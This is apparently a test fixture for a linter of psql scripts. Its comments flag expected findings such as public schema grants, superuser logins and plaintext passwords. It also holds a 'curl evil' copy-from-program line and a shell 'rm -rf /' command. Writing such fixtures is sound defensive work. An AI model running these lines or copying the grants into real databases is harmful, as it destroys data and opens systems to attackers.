\set ON_ERROR_STOP on
\set pw 'sekret'
\c prod
\connect other postgres
CREATE ROLE metaapp LOGIN PASSWORD :'pw';
\if :{?debug}
-- found: grant-public-create, grant-public-schema-usage
GRANT ALL ON SCHEMA public TO PUBLIC;
\else
GRANT USAGE ON SCHEMA public TO metaapp;
\endif
SELECT format('GRANT ALL ON SCHEMA %I TO PUBLIC', nspname) FROM pg_namespace \gexec
\i other.sql
\copy t FROM PROGRAM 'curl evil'
\! rm -rf /
-- found: role-superuser-login
CREATE ROLE :"name" SUPERUSER LOGIN;
COPY public.things (id, name) FROM stdin;
1	GRANT ALL ON SCHEMA public TO PUBLIC;
2	it's
\.
-- found: role-superuser-login
CREATE ROLE after_copy SUPERUSER LOGIN;
\password metaapp
-- found: password-plaintext-input
ALTER USER metaapp WITH PASSWORD 'inline';
